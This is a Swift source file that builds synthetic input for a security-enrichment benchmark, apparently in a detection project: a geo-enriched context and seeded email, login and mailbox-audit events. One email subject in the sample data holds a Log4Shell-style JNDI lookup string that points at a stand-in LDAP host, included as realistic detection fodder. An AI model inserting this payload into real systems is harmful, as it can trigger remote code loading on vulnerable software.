import Foundation
import OspreyContent
import OspreyCore
import OspreyEnrichment

/// The enrichment benchmark's input (ported from the former `osprey-enrich-bench`): a context directory
/// (default docs/context-example, with the bundled lists) and generated events over its users.
public enum EnrichmentInput {
    /// Loads `contextDirectory` (copied to a scratch directory so that geo databases can be added: `geo` is a
    /// directory from tools/fetch_enrichment_data.sh, default $OSPREY_ENRICHMENT_DATA; none when unset).
    public static func loadContext(contextDirectory: String = BenchPaths.contextExample.path, lists: String? = nil,
                                   geo: String? = ProcessInfo.processInfo.environment["OSPREY_ENRICHMENT_DATA"]) throws -> Context {
        let fm = FileManager.default
        let lists = lists ?? OspreyContent.directory.appendingPathComponent("lists").path
        let scratch = try BenchPaths.scratch("osprey-enrich-bench")
        defer { try? fm.removeItem(atPath: scratch) }
        try fm.removeItem(atPath: scratch)
        try fm.copyItem(atPath: contextDirectory, toPath: scratch)
        if let g = geo, !g.isEmpty {
            var conf = (try? String(contentsOfFile: scratch + "/context.conf", encoding: .utf8)) ?? "[context bench]\n"
            let dbs = ["geo/dbip-country-lite.mmdb", "geo/dbip-asn-lite.mmdb"].map { g + "/" + $0 }.filter { fm.fileExists(atPath: $0) }
            let ranges = ["geo/geoip", "geo/geoip6"].map { g + "/" + $0 }.filter { fm.fileExists(atPath: $0) }
            if !dbs.isEmpty { conf += "geo_databases = \(dbs.joined(separator: ", "))\n" }
            if !ranges.isEmpty { conf += "geo_ranges = \(ranges.joined(separator: ", "))\n" }
            try conf.write(toFile: scratch + "/context.conf", atomically: true, encoding: .utf8)
        }
        return try Context.load(directory: scratch, lists: lists)
    }

    /// Generates `count` events: a mix of outbound and inbound mail, logins and audit events. Users are taken
    /// from the context (plus 10% unknown users), source IPs from a pool of `distinctIPs` public IPv4 and IPv6
    /// addresses, recipients from `distinctDomains` domains.
    public static func events(count: Int, context: Context, distinctIPs: Int = 5_000, distinctDomains: Int = 2_000,
                              seed: UInt64 = 42) -> [Event] {
        var rng = SplitMix64(state: seed)
        let users = context.users.users.map(\.id)
        let knownUsers = users.isEmpty ? (0..<500).map { "user\($0)@example.com" } : users
        let ips: [String] = (0..<distinctIPs).map { i in
            if i % 10 == 9 { return "2a0\(rng.next() % 9 + 1):\(String(rng.next() % 0xFFFF, radix: 16))::\(String(rng.next() % 0xFFFF, radix: 16))" }
            return "\(rng.next() % 223 + 1).\(rng.next() % 256).\(rng.next() % 256).\(rng.next() % 256)"
        }
        let webmail = ["gmail.com", "outlook.com", "yahoo.co.uk", "gmx.de", "proton.me", "mailinator.com"]
        let domains: [String] = (0..<distinctDomains).map { i in
            if i < webmail.count { return webmail[i] }
            let tlds = ["com", "de", "co.uk", "fr", "io", "net", "com.au", "jp"]
            return "partner\(i).\(tlds[i % tlds.count])"
        }
        let company = context.companyDomains.exact.sorted().first ?? "example.com"
        let subjects = ["Quarterly report", "RE: lunch?", "Invoice 4711 overdue", "My CV and cover letter",
                        "FW: project plan", "salary review", "Meeting notes", "Wire transfer request - urgent",
                        "hello ${jndi:ldap://x.example/a}", "Status update for the week of the big launch"]
        let attachments = ["report.pdf", "budget.xlsx", "main.py", "Confidential_Plan.docx", "photo.jpg", "notes.txt"]
        let userAgents = ["Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36",
                          "Microsoft Office/16.0 (Windows NT 10.0; Microsoft Outlook 16.0.17029; Pro)", "okhttp/4.9.3"]
        var out: [Event] = []
        out.reserveCapacity(count)
        let t0 = UTCTime.parse("2024-05-01T00:00:00Z")!
        for i in 0..<count {
            let r = rng.next() % 100
            let user = rng.next() % 10 == 0 ? "stranger\(rng.next() % 1000)@\(company)" : knownUsers[Int(rng.next() % UInt64(knownUsers.count))]
            let ip = ips[Int(rng.next() % UInt64(ips.count))]
            let time = t0 + Int64(i) * 1000
            var e: Event
            if r < 40 {
                e = Event(parser: "bench", activityType: .emailOut, timeMillis: time)
                let d = domains[Int(rng.next() % UInt64(domains.count))]
                e[Fields.user] = .string(user); e[Fields.sender] = .string(user); e[Fields.senderDomain] = .string(company)
                e[Fields.destEmailAddress] = .string("someone@" + d); e[Fields.destDomain] = .string(d)
                e[Fields.emailSubject] = .string(subjects[Int(rng.next() % UInt64(subjects.count))])
                e[Fields.emailAttachments] = .list([attachments[Int(rng.next() % UInt64(attachments.count))]])
                e[Fields.srcIP] = .string(ip); e[Fields.direction] = .string("outbound"); e[Fields.bytes] = .int(Int64(rng.next() % 1_000_000))
                if rng.next() % 2 == 0 { e[Fields.destIP] = .string(ips[Int(rng.next() % UInt64(ips.count))]) }
            } else if r < 60 {
                e = Event(parser: "bench", activityType: .emailIn, timeMillis: time)
                let d = domains[Int(rng.next() % UInt64(domains.count))]
                e[Fields.user] = .string(user); e[Fields.sender] = .string("someone@" + d); e[Fields.senderDomain] = .string(d)
                e[Fields.destEmailAddress] = .string(user); e[Fields.destDomain] = .string(company)
                e[Fields.emailSubject] = .string(subjects[Int(rng.next() % UInt64(subjects.count))])
                e[Fields.srcIP] = .string(ip); e[Fields.direction] = .string("inbound")
            } else if r < 85 {
                e = Event(parser: "bench", activityType: rng.next() % 10 == 0 ? .failedAppLogin : .appLogin, timeMillis: time)
                e[Fields.user] = .string(user); e[Fields.srcIP] = .string(ip); e[Fields.app] = .string("Administration Console")
                e[Field.named("user_agent")] = .string(userAgents[Int(rng.next() % UInt64(userAgents.count))])
            } else {
                e = Event(parser: "bench", activityType: .appActivity, timeMillis: time)
                e[Fields.user] = .string(user); e[Fields.srcIP] = .string(ip); e[Fields.operation] = .string("Mailbox permission granted")
                e[Fields.destEmailAddress] = .string(knownUsers[Int(rng.next() % UInt64(knownUsers.count))])
                e[Fields.additionalInfo] = .string("Granted FullAccess on mailbox; rule: forward invoices to external address")
            }
            out.append(e)
        }
        return out
    }

    /// `count` random IPv4 addresses (seed 7): the uncached geolocation lookups.
    public static func randomIPv4(count: Int) -> [IPAddress] {
        var rng = SplitMix64(state: 7)
        return (0..<count).map { _ in IPAddress(v4: UInt32(truncatingIfNeeded: rng.next() >> 32)) }
    }
}
